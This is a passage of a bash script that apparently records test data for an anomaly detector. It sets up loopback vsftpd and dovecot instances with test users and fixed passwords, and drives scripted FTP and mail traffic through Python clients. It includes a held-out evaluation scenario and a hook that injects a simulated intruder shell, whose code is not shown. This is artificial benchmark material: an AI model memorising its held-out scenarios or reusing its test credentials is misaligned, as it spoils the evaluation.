# (root: the PAM login, PORT-mode connections, chown) and an unprivileged one (nobody, in
# its own PID, IPC and network namespaces, chrooted to the empty secure_chroot_dir; after
# the login it becomes the user, chrooted to the home directory or the anonymous root). Local
# users dwftp-alice and dwftp-bob (system users without a login shell, so a PAM service of its
# own: Debian's vsftpd file without pam_shells) write in their homes under home/
# (chroot_local_user, allow_writeable_chroot); anonymous users (as ftp) read the root-owned
# anonymous root anon/ (no uploads); passive mode on ports ${VSFTPD_PASV[0]}-${VSFTPD_PASV[1]}, PORT
# mode too; the transfer log log/xferlog and vsftpd's own log log/vsftpd.log (dual_log),
# rotated by logrotate with a config of its own (Debian's: create, rotate 4, no signal: each
# session opens the logs anew); a SIGHUP (Debian's ExecReload) re-reads the config.
vsftpd_provision() {
  local p
  for p in "$VSFTPD_PORT" $(seq "${VSFTPD_PASV[0]}" "$VSFTPD_PASV_WIDE"); do
    if ss -Hltn "sport = :$p" | grep -q .; then die "port $p is in use"; fi
  done
  # The users and the PAM file live outside $WORK: removed by the shared cleanup.
  HOST_CLEANUP+=(vsftpd_cleanup)
  vsftpd_users_remove
  rm -rf "$VSFTPD_DIR"
  mkdir -p "$VSFTPD_DIR"/{conf,log,run,empty} "$VSFTPD_ANON"/pub/{releases,docs} "$VSFTPD_HOME"
  cat >"/etc/pam.d/$VSFTPD_PAM" <<'PAM'
# driftwatch record-testdata.sh's vsftpd: Debian's /etc/pam.d/vsftpd without pam_shells
# (its users have no login shell). Removed at the end of the run.
auth	required	pam_listfile.so item=user sense=deny file=/etc/ftpusers onerr=succeed
@include common-account
@include common-session
@include common-auth
PAM
  cat >"$VSFTPD_CONF" <<CONF
listen=YES
listen_ipv6=NO
listen_address=127.0.0.1
listen_port=$VSFTPD_PORT
background=NO
ftpd_banner=Welcome to the example.test file service.
anonymous_enable=YES
anon_root=$VSFTPD_ANON
no_anon_password=YES
anon_upload_enable=NO
anon_mkdir_write_enable=NO
local_enable=YES
write_enable=YES
local_umask=022
chroot_local_user=YES
allow_writeable_chroot=YES
secure_chroot_dir=$VSFTPD_DIR/empty
pam_service_name=$VSFTPD_PAM
xferlog_enable=YES
xferlog_file=$VSFTPD_DIR/log/xferlog
vsftpd_log_file=$VSFTPD_DIR/log/vsftpd.log
dual_log_enable=YES
pasv_enable=YES
pasv_min_port=${VSFTPD_PASV[0]}
pasv_max_port=${VSFTPD_PASV[1]}
port_enable=YES
connect_from_port_20=NO
max_clients=50
max_per_ip=10
idle_session_timeout=300
data_connection_timeout=120
CONF
  cat >"$VSFTPD_DIR/conf/logrotate.conf" <<CONF
$VSFTPD_DIR/log/xferlog $VSFTPD_DIR/log/vsftpd.log {
	create 640 root adm
	missingok
	notifempty
	rotate 4
}
CONF
  chmod 644 "$VSFTPD_CONF" "$VSFTPD_DIR/conf/logrotate.conf"
  vsftpd_client_tool
  vsftpd_user alice
  vsftpd_user bob
  local uhome=$VSFTPD_HOME/alice
  mkdir -p "$uhome"/{docs,inbox,archive,projects,log}
  vsftpd_fill "$uhome/docs/report-" .txt 20 3000
  vsftpd_fill "$uhome/projects/plan-" .md 5 1500
  : >"$uhome/log/activity.log"
  uhome=$VSFTPD_HOME/bob
  mkdir -p "$uhome"/{builds,logs,old}
  vsftpd_fill "$uhome/builds/build-" .tar 10 120000
  vsftpd_fill "$uhome/old/release-" .zip 4 60000
  chown -R dwftp-alice:dwftp-alice "$VSFTPD_HOME/alice"
  chown -R dwftp-bob:dwftp-bob "$VSFTPD_HOME/bob"
  echo "Public downloads of example.test. Mirrors: none." >"$VSFTPD_ANON/pub/readme.txt"
  vsftpd_fill "$VSFTPD_ANON/pub/releases/pkg-" .tar.gz 8 50000
  vsftpd_fill "$VSFTPD_ANON/pub/docs/manual-" .pdf 6 90000
  chmod -R a+rX,go-w "$VSFTPD_ANON"
  VSFTPD_LATEST=pkg-8.tar.gz
  VSFTPD_ROUND=0
}
# vsftpd_fill PREFIX SUFFIX N BYTES: the files PREFIX1SUFFIX .. PREFIX<N>SUFFIX, the i-th of
# about BYTES * (1 + i / 4) random bytes.
vsftpd_fill() {
  local i
  for i in $(seq 1 "$3"); do head -c $(($4 + $4 * i / 4)) /dev/urandom >"$1$i$2"; done
}
# vsftpd_user NAME: the local user dwftp-NAME (a system user, no login shell), its password
# (vsftpd_pass NAME) and its empty home directory home/NAME, added by the host's
# administrator (outside the cgroup).
vsftpd_pass() { echo "dw-eval-$1-pw"; }
vsftpd_user() {
  local u=dwftp-$1 uhome=$VSFTPD_HOME/$1
  useradd --system --user-group --no-create-home --home-dir "$uhome" --shell /usr/sbin/nologin "$u"
  echo "$u:$(vsftpd_pass "$1")" | chpasswd
  mkdir -p "$uhome"
  chown "$u:$u" "$uhome"
}
vsftpd_users_remove() {
  local n
  for n in "${VSFTPD_ALL_USERS[@]}"; do
    if id -u "dwftp-$n" >/dev/null 2>&1; then userdel "dwftp-$n" >/dev/null 2>&1 || true; fi
  done
}
vsftpd_cleanup() { vsftpd_users_remove; rm -f "/etc/pam.d/$VSFTPD_PAM"; }

# The FTP clients, python3 ftplib (outside the cgroup): `vsftpd-client.py PORT CONC` reads one
# session a line from stdin, `ADDR LOGIN PASSWORD MODE OP...` (PASSWORD - for none, MODE pasv
# or port), and runs CONC sessions at a time, each from ADDR: the login, then each OP
# (NAME:ARG:...; a failed one is part of the traffic), QUIT. A failed login ends its session.
vsftpd_client_tool() {
  cat >"$VSFTPD_CLIENT" <<'PY'
import concurrent.futures, ftplib, hashlib, io, sys, time

PORT, CONC = int(sys.argv[1]), int(sys.argv[2])


def payload(name, size):
    block = hashlib.sha256(name.encode()).digest() * 128
    return (block * (size // len(block) + 1))[:size]


def discard(_):
    pass


def abort_after(ftp, path, limit):
    # A client that gives up during a download after LIMIT bytes: it closes the data
    # connection and sends ABOR (426 for the transfer, then 225).
    conn = ftp.transfercmd("RETR " + path)
    got = 0
    while got < int(limit):
        data = conn.recv(65536)
        if not data:
            break
        got += len(data)
    conn.close()
    ftp.abort()
    ftp.sock.settimeout(2)
    try:
        ftp.getresp()
    finally:
        ftp.sock.settimeout(20)


def resume_upload(ftp, path, size, first):
    # An upload cut off after FIRST bytes, then resumed from there (REST, STOR).
    data = payload(path, int(size))
    ftp.storbinary("STOR " + path, io.BytesIO(data[:int(first)]))
    ftp.storbinary("STOR " + path, io.BytesIO(data[int(first):]), rest=int(first))


def mkdirs(ftp, path):
    for i, _ in enumerate(path.split("/")):
        try:
            ftp.mkd("/".join(path.split("/")[:i + 1]))
        except ftplib.error_perm:
            pass


OPS = {
    "pwd": lambda f: f.pwd(),
    "cwd": lambda f, d: f.cwd(d),
    "list": lambda f, d="": f.retrlines(("LIST " + d).strip(), discard),
    "nlst": lambda f, d="": f.nlst(*([d] if d else [])),
    "retr": lambda f, p: f.retrbinary("RETR " + p, discard),
    "rest": lambda f, p, off: f.retrbinary("RETR " + p, discard, rest=int(off)),
    "stor": lambda f, p, n: f.storbinary("STOR " + p, io.BytesIO(payload(p, int(n)))),
    "appe": lambda f, p, n: f.storbinary("APPE " + p, io.BytesIO(payload(p, int(n)))),
    "resume": resume_upload,
    "abor": abort_after,
    "mkd": lambda f, d: f.mkd(d),
    "mkdirs": mkdirs,
    "rmd": lambda f, d: f.rmd(d),
    "dele": lambda f, p: f.delete(p),
    "ren": lambda f, a, b: f.rename(a, b),
    "size": lambda f, p: f.size(p),
    "mdtm": lambda f, p: f.sendcmd("MDTM " + p),
    "chmod": lambda f, mode, p: f.sendcmd("SITE CHMOD %s %s" % (mode, p)),
    "cmd": lambda f, *words: f.sendcmd(" ".join(words)),
    "sleep": lambda f, s: time.sleep(float(s)),
}


def session(line):
    addr, user, password, mode, *ops = line.split()
    ftp = ftplib.FTP(timeout=20)
    try:
        ftp.connect("127.0.0.1", PORT, source_address=(addr, 0))
        ftp.login(user, "" if password == "-" else password)
    except ftplib.all_errors:
        ftp.close()
        return
    ftp.set_pasv(mode == "pasv")
    for op in ops:
        name, *args = op.split(":")
        try:
            OPS[name](ftp, *args)
        except ftplib.all_errors:
            pass
    try:
        ftp.quit()
    except ftplib.all_errors:
        ftp.close()


with concurrent.futures.ThreadPoolExecutor(CONC) as pool:
    list(pool.map(session, [l for l in sys.stdin.read().splitlines() if l.strip()]))
PY
}

VSFTPD_PID=
# As Debian's unit does: vsftpd in the foreground as root in the cgroup (ready once it
# listens); stopped by TERM, and the sessions still open with it (the unit's control-group
# stop).
vsftpd_start() {
  launch vsftpd root /usr/sbin/vsftpd "$VSFTPD_CONF"
  VSFTPD_PID=$LAUNCHED
  until_ok postfix_listening "$VSFTPD_PORT"
}
vsftpd_stop() {
  local p
  stop_pid "$VSFTPD_PID" TERM
  while read -r p; do kill -TERM "$p" 2>/dev/null || true; done <"$CG_MOUNT/$CG_BASE/vsftpd/cgroup.procs"
}

# vsftpd_session ADDR WHO MODE OP...: one session line for vsftpd_clients: WHO is anonymous,
# a local user's NAME (dwftp-NAME with its password) or LOGIN/PASSWORD as typed (a wrong
# password, an unknown user). vsftpd_clients CONC: the session lines on stdin run, CONC at a
# time.
vsftpd_session() {
  local who=$2 login pass
  case $who in
    anonymous) login=anonymous pass=- ;;
    */*) login=${who%%/*} pass=${who#*/} ;;
    *) login=dwftp-$who pass=$(vsftpd_pass "$who") ;;
  esac
  echo "$1 $login $pass $3 ${*:4}"
}
vsftpd_clients() { python3 "$VSFTPD_CLIENT" "$VSFTPD_PORT" "$1" || true; }

# Mix A: from 127.0.0.2-4, three sessions at a time: alice (passive) lists her home and
# docs/, downloads a report (SIZE, MDTM), uploads into inbox/ and moves it to archive/
# (RNFR/RNTO), deletes an older one, appends to log/activity.log (APPE), makes and removes a
# directory; bob (PORT mode) downloads a build, uploads a build log and deletes another;
# an anonymous user lists pub/ and downloads a release, the newest one and the readme; every
# third round a failed login (alice, a wrong password).
vsftpd_mix_a() {
  local r=$((VSFTPD_ROUND += 1))
  {
    vsftpd_session 127.0.0.2 alice pasv pwd list cwd:docs nlst "retr:report-$((r % 10 + 1)).txt" \
      "size:report-$((r % 10 + 1)).txt" "mdtm:report-$((r % 10 + 1)).txt" cwd:/ \
      "stor:inbox/up-$((r % 5)).bin:$((4096 + r % 7 * 2048))" "ren:inbox/up-$((r % 5)).bin:archive/up-$((r % 5)).bin" \
      "dele:archive/up-$(((r + 2) % 5)).bin" "appe:log/activity.log:$((100 + r % 50))" "mkd:tmp-$r" "rmd:tmp-$r"
    vsftpd_session 127.0.0.3 bob port list cwd:builds "retr:build-$((r % 5 + 1)).tar" cwd:/ \
      "stor:logs/build-$((r % 4)).log:$((1500 + r % 9 * 100))" "dele:logs/build-$(((r + 2) % 4)).log" nlst:logs
    vsftpd_session 127.0.0.4 anonymous pasv list:pub nlst:pub/releases "retr:pub/releases/pkg-$((r % 8 + 1)).tar.gz" \
      "retr:pub/releases/$VSFTPD_LATEST" size:pub/readme.txt retr:pub/readme.txt
    [ $((r % 3)) != 0 ] || vsftpd_session 127.0.0.4 dwftp-alice/wrong-password pasv
  } | vsftpd_clients 4
}
# Mix B: from 127.0.0.5-8, six sessions, one at a time in odd rounds and six at a time in
# even ones: alice (PORT mode) in projects/ (plans, notes uploaded and renamed) and reports
# 11-20; bob (passive) in old/ and builds 6-10, appending to logs/deploy.log, a release
# directory made and removed; anonymous users download manuals and the readme (SIZE, MDTM),
# list the releases in PORT mode; a failed login of bob.
vsftpd_mix_b() {
  local r=$((VSFTPD_ROUND += 1)) c=1
  [ $((r % 2)) = 1 ] || c=6
  {
    vsftpd_session 127.0.0.5 alice port cwd:projects list "retr:plan-$((r % 5 + 1)).md" \
      "stor:notes-$((r % 3)).txt:$((800 + r % 5 * 300))" "ren:notes-$((r % 3)).txt:notes-$((r % 3))-final.txt" \
      "mdtm:plan-$((r % 5 + 1)).md"
    vsftpd_session 127.0.0.6 alice port nlst:docs "retr:docs/report-$((r % 10 + 11)).txt" "size:docs/report-$((r % 10 + 11)).txt"
    vsftpd_session 127.0.0.7 bob pasv list:old "retr:old/release-$((r % 4 + 1)).zip" "retr:builds/build-$((r % 5 + 6)).tar" \
      "appe:logs/deploy.log:$((300 + r % 40))" "mkd:old/release-r$r" "rmd:old/release-r$r"
    vsftpd_session 127.0.0.8 anonymous pasv nlst:pub/docs "retr:pub/docs/manual-$((r % 6 + 1)).pdf" \
      "size:pub/docs/manual-$((r % 6 + 1)).pdf" mdtm:pub/readme.txt
    vsftpd_session 127.0.0.6 anonymous port list:pub/releases retr:pub/readme.txt
    [ $((r % 4)) != 0 ] || vsftpd_session 127.0.0.7 dwftp-bob/bob123 pasv
  } | vsftpd_clients "$c"
}
# Its scheduled jobs in training: the logs rotated (logrotate with its own config and state,
# as root inside the cgroup), a new release published into the anonymous root by the build
# system (root, outside the cgroup: written, then renamed), and the config re-read (SIGHUP
# from outside, Debian's ExecReload).
vsftpd_rotate() {
  admin vsftpd root /usr/sbin/logrotate -f -s "$VSFTPD_DIR/run/logrotate.status" "$VSFTPD_DIR/conf/logrotate.conf"
}
# vsftpd_publish PATH BYTES: a new file of BYTES random bytes at PATH under the anonymous root.
vsftpd_publish() {
  head -c "$2" /dev/urandom >"$VSFTPD_ANON/$1.part"
  chmod 644 "$VSFTPD_ANON/$1.part"
  mv "$VSFTPD_ANON/$1.part" "$VSFTPD_ANON/$1"
}
vsftpd_maintenance() {
  local n=$((${VSFTPD_LATEST//[!0-9]/} + 1))
  vsftpd_rotate
  vsftpd_publish "pub/releases/pkg-$n.tar.gz" $((60000 + n * 1000))
  VSFTPD_LATEST=pkg-$n.tar.gz
  kill -HUP "$VSFTPD_PID"
}

# The generic intruder script as alice (an exploited session of a local user executing a
# shell) in her home directory.
vsftpd_inject() { inject_shell vsftpd dwftp-alice "$VSFTPD_HOME/alice"; }
vsftpd_labels() { write_labels vsftpd "$VSFTPD_HOME/alice"; }

# Held out. The administrator adds a local user, carol (outside the cgroup), and the build
# system publishes an 8 MB image and a 16 MB bundle for bob. Each round six sessions from
# 127.0.21.1-250 (another offset each round), six at a time: carol uploads scans into new
# nested directories (projects/2026/qN/batch-R, MKD level by level), and a 3 MB video cut
# off and resumed (REST, STOR); alice (PORT mode) a 4 MB archive into a new month's
# directory; anonymous users download the image from an offset (REST) and whole; bob gives
# up on the bundle after 200 kB (ABOR); every other round a login of an unknown user. Every
# 20 s in turn: a new banner, shorter idle and data timeouts, a passive range widened to
# $VSFTPD_PASV_WIDE and more sessions per address, applied by a restart; then the logs
# rotated and a 12 MB image published.
vsftpd_addr() { echo "127.0.21.$((1 + ($1 * 53 + VSFTPD_ROUND * 59) % 250))"; }
vsftpd_heldout_deploy() {
  vsftpd_user carol
  mkdir -p "$VSFTPD_ANON/pub/images"
  vsftpd_publish pub/images/rescue-8m.img 8000000
  head -c 16000000 /dev/urandom >"$VSFTPD_HOME/bob/builds/bundle.tar"
  chown dwftp-bob:dwftp-bob "$VSFTPD_HOME/bob/builds/bundle.tar"
}
vsftpd_heldout_mix() {
  local r=$((VSFTPD_ROUND += 1)) d m
  d=projects/2026/q$((r % 4 + 1))/batch-$r m=archive/2026-$((r % 12 + 1))
  {
    vsftpd_session "$(vsftpd_addr 1)" carol pasv "mkdirs:$d" "stor:$d/scan-1.pdf:$((200000 + r * 1000))" \
      "stor:$d/scan-2.pdf:$((150000 + r * 700))" "list:$d" "chmod:640:$d/scan-2.pdf"
    vsftpd_session "$(vsftpd_addr 2)" carol pasv mkdirs:video "resume:video/clip-$r.mp4:3000000:$((1000000 + r * 10000))" \
      "size:video/clip-$r.mp4"
    vsftpd_session "$(vsftpd_addr 3)" alice port "mkdirs:$m" "stor:$m/backup-$r.tar:4000000" "list:$m"
    vsftpd_session "$(vsftpd_addr 4)" anonymous pasv nlst:pub/images "rest:pub/images/rescue-8m.img:$((r * 700000 % 7000000))"
    vsftpd_session "$(vsftpd_addr 5)" anonymous port retr:pub/images/rescue-8m.img
    vsftpd_session "$(vsftpd_addr 6)" bob pasv list:builds "abor:builds/bundle.tar:200000"
    [ $((r % 2)) = 0 ] || vsftpd_session "$(vsftpd_addr 7)" "backup/backup$r" pasv
  } | vsftpd_clients 6
}
VSFTPD_HELDOUT_JOBS=0
vsftpd_heldout_job() {
  VSFTPD_HELDOUT_JOBS=$((VSFTPD_HELDOUT_JOBS + 1))
  if [ $((VSFTPD_HELDOUT_JOBS % 2)) = 1 ]; then
    sed -i -e 's/^ftpd_banner=.*/ftpd_banner=example.test file service: authorised users only./' \
      -e 's/^idle_session_timeout=.*/idle_session_timeout=120/' -e 's/^data_connection_timeout=.*/data_connection_timeout=60/' \
      -e "s/^pasv_max_port=.*/pasv_max_port=$VSFTPD_PASV_WIDE/" -e 's/^max_per_ip=.*/max_per_ip=20/' "$VSFTPD_CONF"
    vsftpd_stop
    vsftpd_start
  else
    vsftpd_rotate
    vsftpd_publish pub/images/rescue-12m.img 12000000
  fi
}

# --- dovecot ------------------------------------------------------------------------------

DOVECOT_IMAP_PORT=14143    # dovecot's IMAP listener
DOVECOT_POP3_PORT=14110    # dovecot's POP3 listener
DC_DIR=$WORK/dovecot
DC_CONF=$DC_DIR/conf/dovecot.conf
DC_PASSWD=$DC_DIR/conf/users    # the passwd-file of its virtual users (passdb and userdb)
DC_MAIL=$DC_DIR/mail            # one Maildir per user, owned by DC_VMAIL
DC_RUN=$DC_DIR/run              # base_dir: the master's pid file and every service's socket
DC_LMTP=$DC_RUN/lmtp            # the LMTP delivery socket
DC_VMAIL=dwvmail                # the system user every mailbox belongs to (mail_uid)
DC_TOOL=$WORK/dovecot-client.py # the mail clients (outside the cgroup)
DC_DOMAIN=mail.example.test
DC_USERS=(alice bob carol dave erin frank)   # mix A: alice, bob, carol; mix B: dave, erin, frank

# Dovecot 2.3 (Debian dovecot-core, -imapd, -pop3d, -lmtpd), an IMAP and POP3 mail store, as
# its own instance, not the system service: `dovecot -F -c conf/dovecot.conf` (the master in
# the foreground) started as root in dw-eval/dovecot, as dovecot.service starts it. The master
# forks its services on demand: config, log, anvil, stats, auth and auth-worker (as dovecot),
# imap-login and pop3-login (as dovenull), imap, pop3 and lmtp (as DC_VMAIL, after the login),
# indexer and indexer-worker (for `doveadm index -q`). Its root-owned config in conf/ (not
# Debian's /etc/dovecot): IMAP on 127.0.0.1:$DOVECOT_IMAP_PORT and POP3 on
# 127.0.0.1:$DOVECOT_POP3_PORT, plaintext logins without TLS (ssl = no: loopback only), LMTP
# on the socket run/lmtp (the MTA's side); virtual users in the passwd-file conf/users (SHA512-CRYPT
# passwords, usernames without the domain), every mailbox as DC_VMAIL in
# mail/<user> (Maildir, folders separated by '/', Sent, Drafts, Trash and Archive created
# at login); base_dir run/, state_dir state/, its log log/dovecot.log.
dovecot_cleanup() {
  if id -u "$DC_VMAIL" >/dev/null 2>&1; then userdel "$DC_VMAIL" >/dev/null 2>&1 || true; fi
}
dovecot_provision() {
  local p
  for p in "$DOVECOT_IMAP_PORT" "$DOVECOT_POP3_PORT"; do
    if ss -Hltn "sport = :$p" | grep -q .; then die "port $p is in use"; fi
  done
  # The mail user lives outside $WORK: removed by the shared cleanup.
  HOST_CLEANUP+=(dovecot_cleanup)
  id "$DC_VMAIL" >/dev/null 2>&1 ||
    useradd --system --no-create-home --home-dir /nonexistent --shell /usr/sbin/nologin "$DC_VMAIL"
  rm -rf "$DC_DIR"
  mkdir -p "$DC_DIR"/{conf,state,log} "$DC_RUN" "$DC_MAIL"
  chown "$DC_VMAIL:$DC_VMAIL" "$DC_MAIL"
  chmod 750 "$DC_MAIL"
  local uid
  uid=$(id -u "$DC_VMAIL")
  cat >"$DC_CONF" <<CONF
instance_name = dw-eval-dovecot
base_dir = $DC_RUN
state_dir = $DC_DIR/state
log_path = $DC_DIR/log/dovecot.log
protocols = imap pop3 lmtp
listen = 127.0.0.1
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
auth_username_format = %Ln
first_valid_uid = $uid
last_valid_uid = $uid
mail_uid = $DC_VMAIL
mail_gid = $DC_VMAIL
mail_location = maildir:$DC_MAIL/%u
mail_max_userip_connections = 20
pop3_uidl_format = %08Xu%08Xv
login_greeting = dw-eval mail store ready
passdb {
  driver = passwd-file
  args = scheme=SHA512-CRYPT $DC_PASSWD
}
userdb {
  driver = passwd-file
  args = $DC_PASSWD
  default_fields = home=$DC_MAIL/%u
}
namespace inbox {
  inbox = yes
  separator = /
  mailbox Sent {
    special_use = \\Sent
    auto = subscribe
  }
  mailbox Drafts {
    special_use = \\Drafts
    auto = subscribe
  }
  mailbox Trash {
    special_use = \\Trash
    auto = subscribe
  }
  mailbox Archive {
    special_use = \\Archive
    auto = create
  }
}
service imap-login {
  inet_listener imap {
    address = 127.0.0.1
    port = $DOVECOT_IMAP_PORT
  }
  inet_listener imaps {
    port = 0
  }
}
service pop3-login {
  inet_listener pop3 {
    address = 127.0.0.1
    port = $DOVECOT_POP3_PORT
  }
  inet_listener pop3s {
    port = 0
  }
}
service lmtp {
  unix_listener lmtp {
    mode = 0666
  }
}
protocol lmtp {
  postmaster_address = postmaster@$DC_DOMAIN
}
CONF
  : >"$DC_PASSWD"
  dovecot_add_users "${DC_USERS[@]}"
  chmod 644 "$DC_CONF"
  doveconf -c "$DC_CONF" -n >/dev/null || die "doveconf failed on $DC_CONF"
  dovecot_client_tool
}
# dovecot_add_users USER...: the users' lines in the passwd-file (password pw-USER), as the
# provisioning system writes them; dovecot reads the file again when it changes.
dovecot_add_users() {
  local u
  for u in "$@"; do
    printf '%s:{SHA512-CRYPT}%s::::::\n' "$u" "$(openssl passwd -6 "pw-$u")" >>"$DC_PASSWD"
  done
  chown root:dovecot "$DC_PASSWD"
  chmod 640 "$DC_PASSWD"
}

# The mail clients, in python3 (outside the cgroup): reads lines from stdin and runs them JOBS
# at a time, each line one session:
#   lmtp RCPT[,RCPT...] COUNT SIZE [ATTACH]   COUNT messages of about SIZE bytes of text (and
#                                             an ATTACH-byte binary attachment) to the users,
#                                             over the LMTP socket, as an MTA delivers them
#   imap SRC USER STEP...                     an IMAP session from SRC (an alias of 127.0.0.1)
#   pop3 SRC USER RETR DELE                   a POP3 session: STAT, LIST, UIDL, RETR of the
#                                             first RETR messages, TOP of one, DELE of DELE
# An IMAP STEP is OP:ARG[:ARG]: read:MBOX (SELECT, FETCH of flags and envelopes, the newest
# three bodies, marked \Seen), examine:MBOX, search:MBOX:CRITERIA (spaces as '+'),
# flag:MBOX:FLAG, copy:MBOX:DEST, move:MBOX:DEST, expunge:MBOX (the oldest two deleted),
# append:MBOX:SIZE, create:MBOX, delete:MBOX, rename:OLD:NEW, list, status:MBOX, subscribe:MBOX,
# fetchall:MBOX (every body), badpass (a wrong password first). Errors (a folder that already
# exists ...) are reported and the session goes on.
dovecot_client_tool() {
  cat >"$DC_TOOL" <<PY
DOMAIN = "$DC_DOMAIN"
LMTP_SOCKET = "$DC_LMTP"
IMAP_PORT = $DOVECOT_IMAP_PORT
POP3_PORT = $DOVECOT_POP3_PORT
PY
  cat >>"$DC_TOOL" <<'PY'
import concurrent.futures, email.message, email.utils, hashlib, imaplib, poplib, random, smtplib, socket, sys, time

def connect(self, timeout):
    return socket.create_connection((self.host, self.port), timeout, source_address=(self.src, 0))

class IMAP(imaplib.IMAP4):
    _create_socket = connect
    def __init__(self, src):
        self.src = src
        super().__init__("127.0.0.1", IMAP_PORT, timeout=15)

class POP3(poplib.POP3):
    _create_socket = connect
    def __init__(self, src):
        self.src = src
        super().__init__("127.0.0.1", POP3_PORT, timeout=15)

def message(to, size, attach=0):
    m = email.message.EmailMessage()
    n = random.getrandbits(32)
    m["From"] = "sender%d@example.org" % (n % 40)
    m["To"] = ", ".join("%s@%s" % (u, DOMAIN) for u in to)
    m["Subject"] = "report %d" % n
    m["Date"] = email.utils.formatdate()
    m["Message-ID"] = "<%08x.%d@example.org>" % (n, time.time_ns())
    line = "line of the message body %08x\n" % n
    m.set_content(line * max(1, size // len(line)))
    if attach:
        data = hashlib.sha256(str(n).encode()).digest() * (attach // 32 + 1)
        m.add_attachment(data[:attach], maintype="application", subtype="octet-stream", filename="data-%d.bin" % n)
    return m

def lmtp(rcpts, count, size, attach=0):
    users = rcpts.split(",")
    with smtplib.LMTP(LMTP_SOCKET) as s:
        s.ehlo("mx.example.test")
        for _ in range(int(count)):
            m = message(users, int(size), int(attach))
            s.sendmail(m["From"], ["%s@%s" % (u, DOMAIN) for u in users], m.as_bytes())
            for _ in users[1:]:   # LMTP answers DATA once per recipient
                s.getreply()

def ok(typ, data, what):
    if typ != "OK":
        raise imaplib.IMAP4.error("%s: %s" % (what, data))
    return data

def select(c, mbox, readonly=False):
    return int(ok(*c.select(mbox, readonly), "select")[0])

def uids(c):
    data = ok(*c.uid("SEARCH", None, "ALL"), "search")
    return data[0].split() if data and data[0] else []

def imap_step(c, user, step):
    op, *a = step.split(":")
    if op == "read":
        ok(*c.select(a[0]), "select")
        u = uids(c)
        if u:
            c.uid("FETCH", b",".join(u[-20:]), "(FLAGS RFC822.SIZE ENVELOPE)")
            c.uid("FETCH", b",".join(u[-3:]), "(BODY.PEEK[])")
            c.uid("STORE", b",".join(u[-3:]), "+FLAGS", "(\\Seen)")
    elif op == "examine":
        if select(c, a[0], True):
            c.fetch("1:*", "(FLAGS INTERNALDATE)")
    elif op == "search":
        ok(*c.select(a[0]), "select")
        c.uid("SEARCH", None, *a[1].split("+"))
    elif op == "flag":
        ok(*c.select(a[0]), "select")
        u = uids(c)
        if u:
            c.uid("STORE", b",".join(random.sample(u, max(1, len(u) // 4))), "+FLAGS", "(%s)" % a[1])
    elif op in ("copy", "move"):
        ok(*c.select(a[0]), "select")
        u = uids(c)
        if u:
            typ, data = c.uid(op.upper(), b",".join(u[-2:]), a[1])
            if typ != "OK" and b"TRYCREATE" in data[0]:
                c.create(a[1])
                typ, data = c.uid(op.upper(), b",".join(u[-2:]), a[1])
            ok(typ, data, op)
    elif op == "expunge":
        ok(*c.select(a[0]), "select")
        u = uids(c)
        if u:
            c.uid("STORE", b",".join(u[:2]), "+FLAGS", "(\\Deleted)")
            c.expunge()
    elif op == "append":
        c.append(a[0], "(\\Seen)", imaplib.Time2Internaldate(time.time()), message([user], int(a[1])).as_bytes())
    elif op == "create":
        c.create(a[0])
    elif op == "delete":
        c.delete(a[0])
    elif op == "rename":
        c.rename(a[0], a[1])
    elif op == "list":
        c.list()
        c.lsub()
    elif op == "status":
        c.status(a[0], "(MESSAGES RECENT UIDNEXT UNSEEN)")
    elif op == "subscribe":
        c.subscribe(a[0])
    elif op == "fetchall":
        if select(c, a[0], True):
            c.fetch("1:*", "(BODY.PEEK[])")
    elif op == "badpass":
        pass
    else:
        raise ValueError("unknown step " + step)

def imap(src, user, *steps):
    c = IMAP(src)
    try:
        if "badpass" in steps:
            try:
                c.login(user, "wrong")
            except imaplib.IMAP4.error:
                pass
        c.login(user, "pw-" + user)
        for step in steps:
            try:
                imap_step(c, user, step)
            except imaplib.IMAP4.error as e:
                print("dovecot-client: %s %s: %s" % (user, step, e), file=sys.stderr)
    finally:
        c.logout()

def pop3(src, user, retr, dele):
    p = POP3(src)
    try:
        p.user(user)
        p.pass_("pw-" + user)
        count = p.stat()[0]
        p.list()
        p.uidl()
        for i in range(1, min(count, int(retr)) + 1):
            p.retr(i)
        if count:
            p.top(count, 5)
        for i in range(1, min(count, int(dele)) + 1):
            p.dele(i)
    finally:
        p.quit()

def session(line):
    kind, *args = line.split()
    try:
        {"lmtp": lmtp, "imap": imap, "pop3": pop3}[kind](*args)
    except (OSError, imaplib.IMAP4.error, poplib.error_proto, smtplib.SMTPException) as e:
        print("dovecot-client: %s: %s" % (line[:60], e), file=sys.stderr)

lines = [l for l in sys.stdin.read().splitlines() if l.strip()]
with concurrent.futures.ThreadPoolExecutor(int(sys.argv[1])) as pool:
    list(pool.map(session, lines))
PY
}

DC_PID=
# Started as dovecot.service does (in the foreground, as root); ready once both logins listen
# and the LMTP socket is there. Stopped by TERM (the master stops its services).
dovecot_ready() { postfix_listening "$DOVECOT_IMAP_PORT" && postfix_listening "$DOVECOT_POP3_PORT" && [ -S "$DC_LMTP" ]; }
dovecot_start() {
  launch dovecot root /usr/sbin/dovecot -F -c "$DC_CONF"
  DC_PID=$LAUNCHED
  until_ok dovecot_ready
}
dovecot_stop() { stop_pid "$DC_PID" TERM; }
# dovecot_adm ARGS...: the operator's `doveadm ARGS` as root inside the cgroup (against this
# instance's config); a mailbox command runs as the user's mail_uid.
dovecot_adm() { admin dovecot root /usr/bin/doveadm -c "$DC_CONF" "$@"; }
# dovecot_clients JOBS: the sessions on stdin (lines for dovecot-client.py), JOBS at a time.
dovecot_clients() {
  python3 "$DC_TOOL" "$1" || echo "record-testdata: dovecot: the mail clients failed" >&2
}

# Mix A: deliveries to alice, bob and carol (a message to two of them, one of 6 kB); alice
# reads her INBOX from 127.0.0.2 (SELECT, FETCH, SEARCH UNSEEN, flags, a copy into Archive),
# bob from 127.0.0.3 (reads, expunges two, saves a reply into Sent), carol downloads and
# deletes by POP3 from 127.0.0.4; every third round bob files two messages into Archive (MOVE)
# and alice empties Archive's oldest (EXPUNGE).
DC_ROUND=0
dovecot_mix_a() {
  local r=$((DC_ROUND += 1)) extra=""
  [ $((r % 3)) != 0 ] || extra="imap 127.0.0.3 bob move:INBOX:Archive
imap 127.0.0.2 alice expunge:Archive"
  dovecot_clients 3 <<L
lmtp alice,bob 1 1500
lmtp carol,alice 1 6000
lmtp bob 1 2500
imap 127.0.0.2 alice read:INBOX search:INBOX:UNSEEN flag:INBOX:\\Flagged copy:INBOX:Archive
imap 127.0.0.3 bob read:INBOX expunge:INBOX append:Sent:3000
pop3 127.0.0.4 carol 3 2
$extra
L
}
# Mix B: dave, erin and frank, from 127.0.0.5-8: one session, then six at a time; their own
